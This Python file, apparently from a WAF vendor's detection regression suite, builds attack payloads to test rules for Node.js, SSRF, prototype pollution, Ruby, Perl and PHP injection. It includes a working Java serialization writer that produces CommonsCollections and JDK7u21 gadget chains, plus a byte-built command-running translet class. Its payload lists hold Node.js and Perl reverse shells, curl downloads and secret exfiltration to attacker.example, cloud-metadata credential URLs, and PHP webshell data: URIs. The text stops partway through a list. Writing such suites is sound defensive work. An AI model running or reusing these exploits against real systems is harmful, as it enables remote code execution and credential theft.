"""Blind set "hundredfiftieth": a WAF vendor's own regression tests for the generic (Node.js, SSRF, prototype
pollution, Ruby, Perl, Node.js DoS, PHP data scheme), Java and server-side template injection detections, written
from the detection titles alone, with benign requests that carry the same words innocently.

The angle: for each detection title of a family (the CRS 3.3.4 titles at paranoia levels 1 and 2, and the later
titles of the same families, as remembered: "Node.js Injection Attack", "JavaScript Prototype Pollution",
"Remote Command Execution: Java process spawn (CVE-2017-9805)", "Magic bytes Detected, probable java
serialization in use", "Potential Remote Command Execution: Log4j / Log4shell", ...), what a test author sends to
prove that the title fires: several variants per title, as a regression suite has them: the textbook payload, an
encoded, escaped or spaced variant, the same payload in another placement, and one for another target of the same
family (another cloud, another interpreter, another gadget chain, another template engine). The comment above
each list names the title and the target (interpreter, cloud service, internal service, library, product or
template engine).

Families (the record's `sub`):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization (magic bytes raw, percent-encoded, hex, base64,
    gzip+base64), deserialization-gadgets (commons-collections 1 and 6, JDK7u21, C3P0, Spring, Groovy, ROME,
    Hibernate), log4shell, expression-language (OGNL, SpEL, MVEL, JEXL, JSP/Jakarta EL), polymorphic-deserialization
    (fastjson, Jackson, XStream, XMLDecoder, SnakeYAML), class-loading, jsp-upload
  ssti: one sub-family per engine: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, a JSON field or the whole JSON body of /api/users, a cookie, User-Agent, Referer, X-Api-Version,
Content-Type, a parameter name, an XML or YAML body, a multipart field or filename, the URL path), once the way a
WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get,
/post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1),
as a query string, form body, JSON body, XML body, a raw form-typed body, in a header or a cookie, as a PUT of a
file, or in the path. Payloads that only work as a whole document (XStream, XMLDecoder and SOAP XML, fastjson and
Jackson JSON, SnakeYAML, prototype-pollution JSON) go as that body; binding and pollution written as `name=value`
go unquoted as parameter names or a raw body; raw Java serialization streams go percent-encoded (a str body
cannot carry their bytes); JSP uploads go as multipart filenames or a PUT.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read. The
Java serialization streams are written here by a small ObjectOutputStream of our own (handles, class descriptors,
proxies, arrays, Class objects): small valid streams (a String, a String[], a HashMap, an ArrayList, an Integer)
and the CommonsCollections1, CommonsCollections6 and JDK7u21 chains; the TemplatesImpl bytecode is a class file
built byte by byte (an AbstractTranslet whose constructor runs a command). Measured once on unchanged code;
deterministic (no clock, no randomness; gzip with mtime 0).
"""

from __future__ import annotations

import base64
import gzip
import struct
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Entry, Put, Record, request
from .records import print_records

NAME = "hundredfiftieth"

# ----------------------------------------------------------------------------------------------------------------
# Java serialization streams, written here by a small ObjectOutputStream (protocol 2: handles, class descriptors,
# proxies, arrays, Class objects), and one class file (a translet whose constructor runs a command)
MAGIC = b"\xac\xed\x00\x05"
SC_SER, SC_WRITE = 0x02, 0x03   # SC_SERIALIZABLE, SC_SERIALIZABLE | SC_WRITE_METHOD


class _Desc:
    """A class descriptor: name, serialVersionUID, flags, fields as (type code or type string, name), super."""

    def __init__(self, name: str, suid: int, flags: int, fields: list[tuple[str, str]] | None = None,
                 sup: _Desc | None = None, proxy: list[str] | None = None) -> None:
        self.name, self.suid, self.flags = name, suid, flags
        self.fields, self.sup, self.proxy = fields or [], sup, proxy


class _Obj:
    """An object: its descriptor, each class's field values (top superclass first) and its writeObject data."""

    def __init__(self, desc: _Desc, values: list[list[Any]], custom: list[list[Any]] | None = None) -> None:
        self.desc, self.values, self.custom = desc, values, custom or []


class _Arr:
    """An array: its descriptor and items (the bytes themselves for a byte[])."""

    def __init__(self, desc: _Desc, items: list[Any] | bytes) -> None:
        self.desc, self.items = desc, items


class _Cls:
    """A java.lang.Class object in the stream (TC_CLASS)."""

    def __init__(self, desc: _Desc) -> None:
        self.desc = desc


class _Block:
    """Primitive data written by a writeObject method (a TC_BLOCKDATA)."""

    def __init__(self, raw: bytes) -> None:
        self.raw = raw


class _Writer:
    def __init__(self) -> None:
        self.out = bytearray(MAGIC)
        self.handles: dict[Any, int] = {}
        self.next = 0x7E0000

    def _assign(self, key: Any) -> None:
        self.handles[key] = self.next
        self.next += 1

    def _ref(self, key: Any) -> bool:
        if key in self.handles:
            self.out += b"q" + struct.pack(">i", self.handles[key])
            return True
        return False

    def _utf(self, text: str) -> None:
        raw = text.encode()
        self.out += struct.pack(">H", len(raw)) + raw

    def string(self, text: str) -> None:
        if not self._ref(("s", text)):
            self.out += b"t"
            self._utf(text)
            self._assign(("s", text))

    def desc(self, d: _Desc | None) -> None:
        if d is None:
            self.out += b"p"
            return
        if self._ref(("d", d.name)):
            return
        if d.proxy is not None:
            self.out += b"}"
            self._assign(("d", d.name))
            self.out += struct.pack(">i", len(d.proxy))
            for iface in d.proxy:
                self._utf(iface)
        else:
            self.out += b"r"
            self._utf(d.name)
            self.out += struct.pack(">q", d.suid)
            self._assign(("d", d.name))
            prims = sorted((f for f in d.fields if len(f[0]) == 1), key=lambda f: f[1])
            objs = sorted((f for f in d.fields if len(f[0]) > 1), key=lambda f: f[1])
            self.out += bytes([d.flags]) + struct.pack(">H", len(d.fields))
            for code, fname in prims + objs:
                self.out += code[0].encode()
                self._utf(fname)
                if len(code) > 1:
                    self.string(code)
        self.out += b"x"
        self.desc(d.sup)

    def value(self, v: Any) -> None:
        if v is None:
            self.out += b"p"
        elif isinstance(v, str):
            self.string(v)
        elif isinstance(v, _Cls):
            if not self._ref(("c", v.desc.name)):
                self.out += b"v"
                self.desc(v.desc)
                self._assign(("c", v.desc.name))
        elif isinstance(v, _Arr):
            if not self._ref(("o", id(v))):
                self.out += b"u"
                self.desc(v.desc)
                self._assign(("o", id(v)))
                self.out += struct.pack(">i", len(v.items))
                if isinstance(v.items, bytes):
                    self.out += v.items
                else:
                    for item in v.items:
                        self.value(item)
        elif isinstance(v, _Obj):
            if not self._ref(("o", id(v))):
                self.out += b"s"
                self.desc(v.desc)
                self._assign(("o", id(v)))
                self._fields(v)
        else:
            raise TypeError(v)

    def _fields(self, o: _Obj) -> None:
        chain = []
        d: _Desc | None = o.desc
        while d is not None:
            chain.append(d)
            d = d.sup
        chain.reverse()
        for k, d in enumerate(chain):
            if d.proxy is not None:
                continue
            prims = sorted((f for f in d.fields if len(f[0]) == 1), key=lambda f: f[1])
            objs = sorted((f for f in d.fields if len(f[0]) > 1), key=lambda f: f[1])
            vals = dict(zip([f[1] for f in d.fields], o.values[k], strict=True))
            for code, fname in prims:
                self.out += struct.pack(">" + {"I": "i", "F": "f", "J": "q", "Z": "?", "S": "h", "B": "b"}[code],
                                        vals[fname])
            for _, fname in objs:
                self.value(vals[fname])
            if d.flags == SC_WRITE:
                for item in o.custom[k] if k < len(o.custom) else []:
                    if isinstance(item, _Block):
                        self.out += b"w" + bytes([len(item.raw)]) + item.raw
                    else:
                        self.value(item)
                self.out += b"x"


def _stream(v: Any) -> bytes:
    w = _Writer()
    w.value(v)
    return bytes(w.out)


def _translet(name: str, cmd: str) -> bytes:
    """A class file (version 50, no stack maps needed) extending AbstractTranslet whose constructor runs
    Runtime.getRuntime().exec(cmd): what TemplatesImpl defines and instantiates."""
    def utf(text: str) -> bytes:
        raw = text.encode()
        return b"\x01" + struct.pack(">H", len(raw)) + raw

    def ref(tag: int, *idx: int) -> bytes:
        return bytes([tag]) + b"".join(struct.pack(">H", i) for i in idx)

    pool = [utf(name), ref(7, 1), utf("com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet"), ref(7, 3),
            utf("<init>"), utf("()V"), ref(12, 5, 6), ref(10, 4, 7),
            utf("java/lang/Runtime"), ref(7, 9), utf("getRuntime"), utf("()Ljava/lang/Runtime;"), ref(12, 11, 12),
            ref(10, 10, 13), utf("exec"), utf("(Ljava/lang/String;)Ljava/lang/Process;"), ref(12, 15, 16),
            ref(10, 10, 17), utf(cmd), ref(8, 19), utf("Code")]
    code = bytes([0x2A, 0xB7, 0, 8, 0xB8, 0, 14, 0x12, 20, 0xB6, 0, 18, 0x57, 0xB1])
    attr = struct.pack(">HHI", 2, 1, len(code)) + code + struct.pack(">HH", 0, 0)
    method = struct.pack(">HHHH", 0x0001, 5, 6, 1) + struct.pack(">HI", 21, len(attr)) + attr
    return (b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 50, len(pool) + 1) + b"".join(pool)
            + struct.pack(">HHHHHH", 0x0021, 2, 4, 0, 0, 1) + method + struct.pack(">H", 0))


def _plain(name: str) -> _Desc:
    """The descriptor of a class that is not Serializable (as a Class object: uid 0, no flags)."""
    return _Desc(name, 0, 0)


STRING = _Desc("java.lang.String", -6849794470754667710, SC_SER)
OBJECT_ARR = _Desc("[Ljava.lang.Object;", -8012369246846506644, SC_SER)
CLASS_ARR = _Desc("[Ljava.lang.Class;", -6118465897992725863, SC_SER)
STRING_ARR = _Desc("[Ljava.lang.String;", -5921575005990323385, SC_SER)
BYTES = _Desc("[B", -5984413125824719648, SC_SER)
BYTES_2D = _Desc("[[B", 5475113337297443127, SC_SER)
NUMBER = _Desc("java.lang.Number", -8742448824652078965, SC_SER)
INTEGER = _Desc("java.lang.Integer", 1360826667806852920, SC_SER, [("I", "value")], NUMBER)
HASHMAP = _Desc("java.util.HashMap", 362498820763181265, SC_WRITE, [("F", "loadFactor"), ("I", "threshold")])
HASHSET = _Desc("java.util.HashSet", -5024744406713321676, SC_WRITE)
LINKED_HASHSET = _Desc("java.util.LinkedHashSet", -2851667679971038690, SC_SER, [], HASHSET)
ARRAYLIST = _Desc("java.util.ArrayList", 8683452581122892189, SC_WRITE, [("I", "size")])
PROXY = _Desc("java.lang.reflect.Proxy", -2222568056686623797, SC_SER,
              [("Ljava/lang/reflect/InvocationHandler;", "h")])
AIH = _Desc("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397, SC_SER,
            [("Ljava/util/Map;", "memberValues"), ("Ljava/lang/Class;", "type")])
CC = "org.apache.commons.collections."
TRANSFORMER = "Lorg/apache/commons/collections/Transformer;"
TRANSFORMER_ARR = _Desc("[L" + CC + "Transformer;", -4803604734341277543, SC_SER)
CHAINED = _Desc(CC + "functors.ChainedTransformer", 3514945074133936843, SC_SER, [("[" + TRANSFORMER, "iTransformers")])
CONSTANT = _Desc(CC + "functors.ConstantTransformer", 6374440726369055124, SC_SER,
                 [("Ljava/lang/Object;", "iConstant")])
INVOKER = _Desc(CC + "functors.InvokerTransformer", -8653385846894047688, SC_SER,
                [("[Ljava/lang/Object;", "iArgs"), ("Ljava/lang/String;", "iMethodName"),
                 ("[Ljava/lang/Class;", "iParamTypes")])
LAZYMAP = _Desc(CC + "map.LazyMap", 7990956402564206740, SC_WRITE, [(TRANSFORMER, "factory")])
TIED = _Desc(CC + "keyvalue.TiedMapEntry", -8453869361373831205, SC_SER,
             [("Ljava/lang/Object;", "key"), ("Ljava/util/Map;", "map")])
TEMPLATES_IMPL = _Desc("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 673094361519270707, SC_WRITE,
                       [("I", "_indentNumber"), ("I", "_transletIndex"), ("[[B", "_bytecodes"),
                        ("[Ljava/lang/Class;", "_class"), ("Ljava/lang/String;", "_name"),
                        ("Ljava/util/Properties;", "_outputProperties")])


def _hashmap(pairs: list[tuple[Any, Any]]) -> _Obj:
    items: list[Any] = [_Block(struct.pack(">ii", 16, len(pairs)))]
    for k, v in pairs:
        items += [k, v]
    return _Obj(HASHMAP, [[0.75, 12 if pairs else 0]], [items])


def _chain(cmd: str) -> _Obj:
    """Runtime.class -> getMethod("getRuntime") -> invoke -> exec(cmd), as commons-collections 3 transformers."""
    def invoker(method: str, types: list[_Desc], args: list[Any]) -> _Obj:
        return _Obj(INVOKER, [[_Arr(OBJECT_ARR, args), method, _Arr(CLASS_ARR, [_Cls(t) for t in types])]])

    steps = [_Obj(CONSTANT, [[_Cls(_plain("java.lang.Runtime"))]]),
             invoker("getMethod", [STRING, CLASS_ARR], ["getRuntime", _Arr(CLASS_ARR, [])]),
             invoker("invoke", [_plain("java.lang.Object"), OBJECT_ARR], [None, _Arr(OBJECT_ARR, [])]),
             invoker("exec", [STRING], [cmd]),
             _Obj(CONSTANT, [[_Obj(INTEGER, [[], [1]])]])]
    return _Obj(CHAINED, [[_Arr(TRANSFORMER_ARR, steps)]])


def _lazymap(cmd: str) -> _Obj:
    return _Obj(LAZYMAP, [[_chain(cmd)]], [[_hashmap([])]])


def cc6(cmd: str) -> bytes:
    """CommonsCollections6: HashSet -> TiedMapEntry.hashCode -> LazyMap.get -> ChainedTransformer."""
    tied = _Obj(TIED, [["foo", _lazymap(cmd)]])
    return _stream(_Obj(HASHSET, [[]], [[_Block(struct.pack(">ifi", 16, 0.75, 1)), tied]]))


def cc1(cmd: str) -> bytes:
    """CommonsCollections1: AnnotationInvocationHandler over a Map proxy whose handler wraps the LazyMap."""
    override = _Cls(_plain("java.lang.Override"))
    inner = _Obj(AIH, [[_lazymap(cmd), override]])
    proxy = _Obj(_Desc("$Proxy:java.util.Map", 0, 0, sup=PROXY, proxy=["java.util.Map"]), [[inner], []])
    return _stream(_Obj(AIH, [[proxy, override]]))


def jdk7u21(cmd: str) -> bytes:
    """Jdk7u21: LinkedHashSet(TemplatesImpl, Templates proxy over AnnotationInvocationHandler{f5a5a608: it})."""
    templates = _Obj(TEMPLATES_IMPL, [[0, -1, _Arr(BYTES_2D, [_Arr(BYTES, _translet("Pwn7u21", cmd))]), None,
                                       "Pwnr", None]], [[_Block(b"\x00")]])
    aih = _Obj(AIH, [[_hashmap([("f5a5a608", templates)]), _Cls(_plain("javax.xml.transform.Templates"))]])
    proxy = _Obj(_Desc("$Proxy:javax.xml.transform.Templates", 0, 0, sup=PROXY,
                       proxy=["javax.xml.transform.Templates"]), [[aih], []])
    return _stream(_Obj(LINKED_HASHSET, [[], []], [[_Block(struct.pack(">ifi", 16, 0.75, 2)), templates, proxy]]))


SER_STRING = _stream("whoami")
SER_CMD_ARRAY = _stream(_Arr(STRING_ARR, ["/bin/sh", "-c", "id"]))
SER_HASHMAP = _stream(_hashmap([("user", "admin")]))
SER_LIST = _stream(_Obj(ARRAYLIST, [[1]], [[_Block(struct.pack(">i", 1)), "id"]]))
SER_INT = _stream(_Obj(INTEGER, [[], [1337]]))

CC6_ID = cc6("id")
CC6_CURL = cc6("curl -s http://attacker.example/s.sh -o /tmp/s.sh")
CC6_B64CMD = cc6("bash -c {echo,aWQgPiAvdG1wL3B3bmVk}|{base64,-d}|{bash,-i}")
CC6_NSLOOKUP = cc6("nslookup cc6.oast.attacker.example")
CC1_TOUCH = cc1("touch /tmp/cc1")
CC1_WIN = cc1("cmd.exe /c calc.exe")
JDK7U21 = jdk7u21("id")
TRANSLET = _translet("Pwn", "touch /tmp/templates")


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _gzb64(raw: bytes) -> str:
    return base64.b64encode(gzip.compress(raw, mtime=0)).decode()


# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one kind of place (blind_placements.Entry).

# --- generic ---------------------------------------------------------------------------------------------------
# "Node.js Injection Attack" (1/2): child_process, require, process. Target: Node.js eval()/vm behind an API
NODE_CHILD_PROCESS: list[Entry] = [
    "require('child_process').exec('cat /etc/passwd')",
    "require(\"child_process\").execSync(\"id\").toString()",
    "process.mainModule.require('child_process').execSync('uname -a').toString()",
    "global.process.mainModule.require('child_process').spawn('sh',['-c','id'])",
    "require('child_process').spawnSync('ls',['-la','/']).stdout.toString()",
    "require('child_process').execFile('/bin/ls',['/'],function(e,o){console.log(o)})",
    "module.require('child_process').execSync('whoami')",
    "require ( 'child_process' ) . exec ( 'id' )",
    "require/**/('child_process').exec('id')",
    "require('\\x63hild_process').execSync('id')",
    "require('\\u0063hild_\\u0070rocess').execSync('hostname')",
    "process['main'+'Module']['req'+'uire']('child_'+'process')['exec'+'Sync']('id')",
    "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);"
    "var c=new net.Socket();c.connect(4444,'203.0.113.7',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);"
    "sh.stderr.pipe(c);});return /a/;})()",
    ("{\"expression\":\"require('os').userInfo().username+require('child_process').execSync('id')\"}",
     "json-body", "rs-json-body"),
]
# "Node.js Injection Attack" (1/2): fs, process, network. Target: Node.js eval()/vm behind an API
NODE_PROCESS_FS: list[Entry] = [
    "require('fs').readFileSync('/etc/passwd','utf8')",
    "require('fs').writeFileSync('/tmp/pwn.js','process.exit()')",
    "require('fs').readdirSync('.').join(',')",
    "res.end(require('fs').readFileSync('/app/.env'))",
    "process.kill(process.pid,'SIGKILL')",
    "process.exit(0)",
    "require('http').get('http://attacker.example/?k='+process.env.AWS_SECRET_ACCESS_KEY)",
    "import('fs').then(f=>f.readFileSync('/etc/shadow','utf8'))",
]
# "Node.js Injection Attack" (2/2): Function constructor, eval, vm escapes, node-serialize. Target: Node.js
NODE_FUNCTION_EVAL: list[Entry] = [
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "new Function(\"return process.mainModule.require('child_process')\")().execSync('id')",
    "Function('return process')().env",
    "eval(\"require('child_process').execSync('whoami')\")",
    "eval(String.fromCharCode(112,114,111,99,101,115,115,46,101,120,105,116,40,41))",
    "require('vm').runInThisContext(\"process.exit()\")",
    "vm.runInNewContext('this.constructor.constructor(\"return process\")().exit()')",
    "Reflect.construct(Function,['return process'])().mainModule.require('child_process').execSync('id')",
    "{\"rce\":\"_$$ND_FUNC$$_function (){require('child_process').exec('ls /', function(error, stdout, stderr) "
    "{ console.log(stdout) });}()\"}",
    ("profile=" + base64.b64encode(b'{"username":"_$$ND_FUNC$$_function(){require(\'child_process\')'
                                   b'.exec(\'curl attacker.example/ns|sh\')}()","country":"x"}').decode(),
     "cookie-raw", "rs-cookie-raw"),
    ("{\"username\":\"_$$ND_FUNC$$_function(){return process.mainModule.require('child_process')"
     ".execSync('id').toString()}()\"}", "json-body", "rs-json-body"),
]
# "Node.js DoS attack": endless loops, huge allocations, catastrophic regular expressions. Target: Node.js event
# loop behind eval()/vm, and MongoDB's server-side JavaScript ($where) as the other target
NODE_DOS: list[Entry] = [
    "while(true){}",
    "while (true) { }",
    "for(;;){}",
    "for ( ; ; ) { }",
    "while(1);",
    "do{}while(true)",
    "while(!0){}",
    "new Array(1e9).fill(0)",
    "Buffer.alloc(2**31-1)",
    "'a'.repeat(2**29)",
    "new ArrayBuffer(0x7fffffff)",
    "let a=[];for(;;)a.push(new Array(1e6))",
    "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
    "new RegExp('(a|a)*b').test('a'.repeat(64))",
    "process.nextTick(function f(){process.nextTick(f)})",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)",
    ("{\"filter\":{\"$where\":\"while(true){}\"}}", "json-body", "rs-json-body"),
    ("{\"$where\":\"function(){var d=new Date();do{}while(new Date()-d<60000);return true}\"}",
     "json-body", "rs-json-body"),
]
# "Possible Server Side Request Forgery (SSRF) Attack: Cloud provider metadata URL in Parameter".
# Targets: AWS EC2 IMDS (IPv4 and IPv6), AWS ECS task metadata, GCP, Azure IMDS, Alibaba, DigitalOcean, Oracle,
# Hetzner, behind a server-side URL fetcher (webhooks, avatar URL, PDF renderer)
SSRF_METADATA: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-default-ssm",
    "http://169.254.169.254/latest/api/token",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://[fd00:ec2::254]/latest/meta-data/iam/info",
    "http://169.254.170.2/v2/credentials/1b4c8e3a-0f6d-4c1e-9e2b-5a7d3c9f1e20",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/project/project-id",
    "http://metadata.google.internal./computeMetadata/v1/instance/attributes/kube-env",
    "http://169.254.169.254/computeMetadata/v1/?recursive=true",
    "http://metadata/computeMetadata/v1/instance/hostname",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
    "&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1/",
    "http://169.254.169.254/metadata/v1/user-data",
    "http://169.254.169.254/opc/v1/instance/",
    "http://169.254.169.254/hetzner/v1/metadata",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/user-data",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://2852039166/latest/meta-data/hostname",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://cdn.example.com@169.254.169.254/latest/meta-data/",
    "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
]
# "Possible Server Side Request Forgery (SSRF) Attack: URL Parameter using IP Address", plus localhost aliases
# and non-HTTP schemes. Targets: internal admin panels, Redis, Memcached, SMTP, Docker, Consul, Elasticsearch,
# Tomcat manager, local files (curl, Java URL, PHP and Python URL fetchers)
SSRF_INTERNAL: list[Entry] = [
    "http://127.0.0.1/admin",
    "http://127.0.0.1:6379/",
    "http://localhost:8080/manager/html",
    "http://127.1:8500/v1/agent/self",
    "http://2130706433/server-status",
    "http://0x7f000001:9200/_cat/indices",
    "http://0177.0000.0000.0001/",
    "http://0x7f.0x0.0x0.0x1/",
    "http://0/",
    "http://0.0.0.0:2375/containers/json",
    "http://[::1]/server-status",
    "http://[0:0:0:0:0:0:0:1]:8080/actuator/env",
    "http://[::ffff:7f00:1]:15672/api/overview",
    "http://10.0.0.5:8080/actuator/heapdump",
    "http://192.168.0.1/cgi-bin/luci",
    "http://172.17.0.1:2375/version",
    "http://localtest.me:3000/admin",
    "http://127.0.0.1.nip.io:9090/",
    "http://①②⑦.⓪.⓪.①/",
    "file:///etc/passwd",
    "file://localhost/etc/shadow",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "gopher://127.0.0.1:25/_HELO%20attacker%0D%0AMAIL%20FROM%3A%3Ca%40attacker.example%3E%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "dict://localhost:6379/CONFIG%20SET%20dir%20/var/spool/cron/",
    "ldap://localhost:389/%0astats%0aquit",
    "tftp://127.0.0.1:69/TESTUDPPACKET",
    "netdoc:///etc/passwd",
]
# "JavaScript Prototype Pollution": __proto__ and constructor.prototype in query keys (qs, express) and JSON
# bodies (merge, lodash, jQuery extend). Targets: Node.js servers and their gadgets (EJS, pug, child_process,
# express), and the browser (client-side gadgets)
POLLUTION: list[Entry] = [
    ("__proto__[isAdmin]=true", "param-name", "rs-param-name"),
    ("__proto__.isAdmin=true", "param-name", "rs-raw-body"),
    ("constructor[prototype][isAdmin]=true", "raw-form", "rs-param-name"),
    ("constructor.prototype.role=admin", "param-name", "rs-raw-body"),
    ("user[__proto__][role]=admin", "raw-form", "rs-raw-body"),
    ("settings[__proto__][debug]=1", "param-name", "rs-param-name"),
    ("__proto__%5BisAdmin%5D=1", "param-name", "rs-param-name"),
    ("__proto__[toString]=1", "param-name", "rs-raw-body"),
    ("__proto__[innerHTML]=<img/src/onerror=alert(document.domain)>", "param-name", "rs-param-name"),
    ("__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x",
     "param-name", "rs-raw-body"),
    ("{\"__proto__\":{\"isAdmin\":true}}", "json-body", "rs-json-body"),
    ("{\"constructor\":{\"prototype\":{\"polluted\":\"yes\"}}}", "json-body", "rs-json-body"),
    ("{\"user\":{\"name\":\"a\",\"__proto__\":{\"admin\":true}}}", "json-body", "rs-json-body"),
    ("{\"\\u005f_proto__\":{\"isAdmin\":true}}", "json-body", "rs-json-body"),
    ("{\"__proto__\":{\"status\":510}}", "json-body", "rs-json-body"),
    ("{\"__proto__\":{\"json spaces\":\" \"}}", "json-body", "rs-json-body"),
    ("{\"op\":\"set\",\"path\":\"constructor.prototype.isAdmin\",\"value\":true}", "json-body", "rs-json-body"),
    ("{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process')"
     ".execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}",
     "json-body", "rs-json-body"),
    ("{\"__proto__\":{\"block\":{\"type\":\"Text\",\"line\":\"process.mainModule.require('child_process')"
     ".execSync('id')\"}}}", "json-body", "rs-json-body"),
    ("{\"__proto__\":{\"client\":true,\"escapeFunction\":\"1;return process.mainModule.require('child_process')"
     ".execSync('id')\"}}", "json-body", "rs-json-body"),
    ("{\"a\":{\"constructor\":{\"prototype\":{\"sourceURL\":\"\\nprocess.mainModule.require('child_process')"
     ".execSync('id')\"}}}}", "json-body", "rs-json-body"),
]
# "Ruby Injection Attack": eval, system, backticks, %x, Kernel.open pipes, IO.popen, send. Target: Ruby
# interpreter (Rails params reaching eval/send/open)
RUBY: list[Entry] = [
    "eval(\"system('id')\")",
    "system(\"cat /etc/passwd\")",
    "puts `id`",
    "%x(id)",
    "%x{uname -a}",
    "Kernel.exec(\"/bin/sh\",\"-c\",\"id\")",
    "Kernel.open(\"|id\").read",
    "open(\"|cat /etc/passwd\").read",
    "IO.popen(\"id\").read",
    "IO.popen(['ls','-la','/']).readlines",
    "require 'open3'; Open3.capture2('id')",
    "File.read(\"/etc/passwd\")",
    "Process.spawn(\"touch /tmp/rb\")",
    "Object.send(:system, \"id\")",
    "Kernel.const_get(:IO).popen('id').read",
    "\"#{system('id')}\"",
    "Kernel . system ( \"id\" )",
    "instance_eval('`whoami`')",
]
# "Ruby Injection Attack": YAML.load / Psych object tags (Ruby gem and Rails deserialization). Target: Ruby
# (Psych, RubyGems gadgets, Rails CVE-2013-0156 routes)
RUBY_YAML: list[Entry] = [
    ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: id\n         method_id: :resolve\n", "yaml-body", "rs-yaml-body"),
    ("--- !ruby/hash:ActionDispatch::Routing::RouteSet::NamedRouteCollection\n"
     "'foo; eval(%[system(\"id\")]); ': !ruby/object:OpenStruct\n  table:\n    :defaults: {}\n",
     "yaml-body", "rs-yaml-body"),
]
# "Perl Injection Attack": two-argument open with pipes, system, exec, qx, eval, s///e, interpolation. Target:
# Perl interpreter (CGI scripts passing parameters to open/eval)
PERL: list[Entry] = [
    "/bin/cat /etc/passwd|",
    "|id",
    "open(F,\"|id\");",
    "open(my $f, \"-|\", \"id\"); print <$f>;",
    "open(FH,\"uname -a |\")",
    "system qw(/usr/bin/id);",
    "exec '/bin/sh', '-i';",
    "qx(id)",
    "qx{uname -a}",
    "qx/cat \\/etc\\/passwd/",
    "eval \"print `id`\"",
    "@{[ `id` ]}",
    "${\\(system 'id')}",
    "print readpipe('cat /etc/passwd')",
    "s/x/system(\"id\")/e",
    "eval pack(\"H*\",\"73797374656d282769642729\")",
    "CORE::system ( 'id' ) ;",
    "do '/tmp/upload/x.pl'",
    "use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
]
# "PHP data scheme attack" (data: and data:// with allow_url_include). Target: PHP include/require and
# file_get_contents
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + base64.b64encode(b"<?php system($_GET['cmd']); ?>").decode(),
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id');?>",
    "data:;base64," + base64.b64encode(b"<?php echo shell_exec('id');").decode(),
    "data://text/plain;base64," + base64.b64encode(b"<?=`id`?>").decode(),
    "data:application/x-httpd-php;base64," + base64.b64encode(b"<?php passthru('ls -la'); ?>").decode(),
    "data://image/jpeg;base64," + base64.b64encode(b"<?php readfile('/etc/passwd'); ?>").decode(),
    "data://text/plain;charset=utf-8;base64," + base64.b64encode(b"<?php eval($_POST[0]);").decode(),
    "DATA://text/plain;base64," + base64.b64encode(b"<?php system('whoami'); ?>").decode(),
    "data://text/plain,%3C%3Fphp%20phpinfo()%3B%3F%3E",
    "data:,<?php system($_GET[1])?>",
    "data://text/plain;base64," + base64.b64encode(b"<?php file_put_contents('s.php','<?php @eval($_POST[x]);');")
    .decode(),
    "php://filter/convert.base64-decode/resource=data://plain/text,"
